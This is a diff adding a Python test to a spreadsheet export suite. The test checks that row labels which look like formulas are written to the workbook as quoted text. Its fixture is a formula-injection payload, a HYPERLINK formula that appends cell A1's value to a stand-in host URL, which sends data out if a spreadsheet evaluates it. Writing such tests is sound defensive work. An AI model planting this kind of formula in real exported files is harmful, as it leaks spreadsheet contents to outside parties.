@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import copy
 import io
 from collections.abc import Iterator
 from typing import Any
@@ -108,3 +109,30 @@ def test_sheet_names_are_short_legal_and_unique(pairs: list[tuple[str, str]]) ->
         assert len(name) <= SHEET_NAME_MAX
         assert not set(name) & set("[]:*?/\\")
     assert len({n.lower() for n in names}) == len(names)
+
+
+HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Klikk her")'
+
+
+def with_hostile_labels(report: Report) -> Report:
+    """The report with every row label typed as a formula (labels come from
+    classifications an administrator can rename)."""
+    hostile = copy.deepcopy(report)
+    for section in hostile.sections:
+        for table in section.tables.values():
+            table.rows = [(code, HOSTILE) for code, _label in table.rows]
+    return hostile
+
+
+def test_typed_text_that_looks_like_a_formula_is_written_as_text(report: Report) -> None:
+    # given a report whose row labels start like a formula
+    hostile = with_hostile_labels(report)
+    # when it is written as a spreadsheet
+    workbook = load_workbook(io.BytesIO(render_xlsx(hostile)))
+    # then no cell is a formula, the labels are there as quoted text, the counts numbers
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert "'" + HOSTILE in {cell.value for cell in cells}
+    first_table = workbook.worksheets[1]
+    assert isinstance(first_table.cell(row=HEADER_ROW + 1, column=2).value, int | str)
+    assert first_table.cell(row=HEADER_ROW + 1, column=1).value == "'" + HOSTILE
